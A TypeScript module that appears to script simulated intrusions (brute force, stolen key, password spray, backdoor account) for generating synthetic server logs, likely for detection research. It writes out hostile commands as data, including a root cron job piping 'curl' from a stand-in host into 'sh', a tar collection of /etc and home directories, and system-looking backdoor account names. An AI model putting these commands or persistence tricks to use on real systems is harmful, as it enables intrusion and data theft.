import type { Person } from '../people.js';
import { homeAddress } from '../people.js';
import { clientPort, HOUR_MS } from '../routine-people.js';
import { su, sudo } from '../privilege.js';
import { guessAndLeave, refusePasswords } from '../sshd-preauth.js';
import { openShell, plantAccount, plantCron, plantKey, reconnaissance } from './actions.js';
import type { Script, Stage } from './stage.js';
import { attackerPeer, Clock, samePeer } from './stage.js';

function startMs({ careful, midnightMs, dice }: Stage): number {
  return midnightMs + (careful ? dice.between(11, 15) : dice.between(1.5, 4)) * HOUR_MS;
}

/** Whose password or key falls: someone who may use sudo and, if there is one, works on the host. */
function victim({ people, site, dice }: Stage): Person {
  const able = people.filter((person) => person.sudo);
  const here = able.filter((person) => person.works.some(([kind]) => kind === site.kind));
  return dice.pick(here.length > 0 ? here : able);
}

/** Guessing one account until it works; then reconnaissance, a new account, a key and a cron job, and a second visit. */
export const bruteForceSuccess: Script = (stage) => {
  const { site, careful, dice, step } = stage;
  const user = victim(stage).name;
  const peer = attackerPeer(stage);
  const clock = new Clock(startMs(stage), careful ? 180_000 : 3400, dice);
  step('guessing', site, () => {
    for (let n = careful ? dice.int(18, 30) : dice.int(45, 90); n > 0; n--) {
      const tries = careful ? 1 : dice.pick([1, 3, 6]);
      const guess = { peer: samePeer(peer, dice), user, valid: true, tries, atMs: clock.next() };
      clock.next(Math.max(0, guessAndLeave(site, guess) - clock.nowMs));
    }
  });
  const fromMs = clock.next(careful ? 900_000 : 20_000);
  const toMs = fromMs + (careful ? 30 : 14) * 60_000;
  const actions = new Clock(fromMs + 8000, careful ? 70_000 : 18_000, dice);
  step('sign-in', site, () => openShell(site, samePeer(peer, dice), user, fromMs, toMs));
  const shell = { site, user, tty: 'pts/1', fromMs, toMs };
  step('reconnaissance', site, () => reconnaissance(shell, actions, careful, dice));
  const planted = careful ? 'ops-tmp' : dice.pick(['sysupd', 'ubnt2', 'dbus-svc']);
  step('persistence', site, () => {
    plantKey(shell, user, actions);
    if (careful) return;
    plantAccount(shell, planted, actions);
    plantCron(shell, 'root', 'curl -fsS http://192.0.2.77/u.sh | sh', actions, 600_000, 6);
  });
  step('return', site, () => {
    const backMs = toMs + (careful ? 5 : 1.2) * HOUR_MS;
    const back = openShell(site, samePeer(peer, dice), careful ? user : planted, backMs, backMs + 400_000);
    sudo(back, { atMs: back.fromMs + 20_000, command: '/usr/bin/bash', lastsMs: 200_000 });
  });
};

/** A person's own key, from a network that is not hers, at an hour that is not hers. */
export const stolenKey: Script = (stage) => {
  const { site, careful, dice, step } = stage;
  const owner = victim(stage);
  const peer = attackerPeer(stage);
  const fromMs = stage.midnightMs + (careful ? dice.between(17, 18.5) : dice.between(1, 4)) * HOUR_MS;
  const toMs = fromMs + (careful ? 40 : 22) * 60_000;
  const clock = new Clock(fromMs + 20_000, careful ? 240_000 : 25_000, dice);
  step('sign-in', site, () => openShell(site, peer, owner.name, fromMs, toMs, owner.key));
  const shell = { site, user: owner.name, tty: 'pts/0', fromMs, toMs };
  step('reconnaissance', site, () => reconnaissance(shell, clock, careful, dice));
  step('persistence', site, () => {
    if (careful) plantKey(shell, 'deploy', clock);
    else plantAccount(shell, dice.pick(['svc-report', 'mnt-user']), clock);
  });
  step('collection', site, () => {
    const command = careful ? '/usr/bin/du -sh /var/www' : '/usr/bin/tar czf /tmp/.c.tgz /etc /var/www /home';
    sudo(shell, { atMs: clock.next(), command, lastsMs: 25_000 });
  });
};

/** One password for many accounts, slowly; one fits, and little is done with it. */
export const passwordSpray: Script = (stage) => {
  const { site, careful, dice, step } = stage;
  const names = [...stage.people.map((person) => person.name), 'root', 'deploy', 'backup', 'monitor'];
  const invalid = ['info', 'sales', 'hr', 'office', 'support', 'accounting', 'admin'];
  const fallen = victim(stage).name;
  const peers = Array.from({ length: careful ? 6 : 1 }, () => attackerPeer(stage));
  const clock = new Clock(stage.midnightMs + (careful ? 2 : 5) * HOUR_MS, careful ? 600_000 : 40_000, dice);
  step('guessing', site, () => {
    for (const user of [...names, ...invalid, ...names]) {
      const peer = samePeer(dice.pick(peers), dice);
      guessAndLeave(site, { peer, user, valid: !invalid.includes(user), tries: 1, atMs: clock.next() });
    }
  });
  const fromMs = clock.next(careful ? HOUR_MS : 60_000);
  const toMs = fromMs + 12 * 60_000;
  const peer = samePeer(peers[0], dice);
  step('sign-in', site, () => {
    if (!careful) {
      const process = site.journal.process(site.dialect.sshdWorker);
      refusePasswords(site, process, {
        peer: samePeer(peer, dice),
        user: fallen,
        valid: true,
        tries: 1,
        atMs: fromMs - 9000,
      });
    }
    openShell(site, peer, fallen, fromMs, toMs);
  });
  const shell = { site, user: fallen, tty: 'pts/0', fromMs, toMs };
  const actions = new Clock(fromMs + 10_000, careful ? 120_000 : 30_000, dice);
  step('reconnaissance', site, () => reconnaissance(shell, actions, careful, dice));
};

/** An account that looks like the system's, a cron job that keeps it alive, and a later visit by it. */
export const backdoorAccount: Script = (stage) => {
  const { site, careful, dice, step, people } = stage;
  const admin = people[dice.int(0, 1)];
  const fromMs = stage.midnightMs + (careful ? dice.between(12, 13) : dice.between(22, 22.8)) * HOUR_MS;
  const toMs = fromMs + 20 * 60_000;
  const peer = careful ? { address: homeAddress(admin, 77), port: clientPort(dice) } : attackerPeer(stage);
  step('sign-in', site, () => openShell(site, peer, admin.name, fromMs, toMs, admin.key));
  const shell = { site, user: admin.name, tty: 'pts/1', fromMs, toMs };
  const clock = new Clock(fromMs + 15_000, careful ? 100_000 : 15_000, dice);
  const name = dice.pick(['systemd-bus', 'polkit-agent', 'sshd-mon']);
  step('persistence', site, () => {
    const root = careful ? shell : su(shell, 'root', clock.next(), 8 * 60_000);
    plantAccount(careful ? shell : { ...root, user: admin.name }, name, clock);
    plantCron(shell, name, `/home/${name}/.cache/agent -q`, clock, careful ? HOUR_MS : 300_000, careful ? 5 : 10);
  });
  step('return', site, () => {
    const backMs = toMs + (careful ? 3 : 0.6) * HOUR_MS;
    const back = openShell(site, attackerPeer(stage), name, backMs, backMs + 500_000);
    sudo(back, { atMs: back.fromMs + 15_000, command: '/usr/bin/bash', lastsMs: 300_000 });
  });
};
